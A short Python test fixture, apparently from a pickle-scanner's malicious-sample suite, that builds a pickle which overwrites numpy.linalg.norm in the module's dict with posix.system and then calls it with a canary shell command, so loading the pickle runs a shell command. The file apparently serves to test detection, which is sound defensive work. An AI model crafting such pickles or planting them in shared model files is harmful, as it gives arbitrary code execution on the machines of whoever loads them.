"""SETITEM on a module's own dict patches the module."""

from __future__ import annotations

from malicious_samples.recipes import shell
from tests.builder import Name, Pickle


def build(canary: str) -> bytes:
    p = (
        Pickle()
        .save(Name("numpy", "linalg.__dict__"), "norm", Name("posix", "system"))
        .setitem()
        .pop()
    )
    return p.call(Name("numpy", "linalg.norm"), shell(canary)).finish()
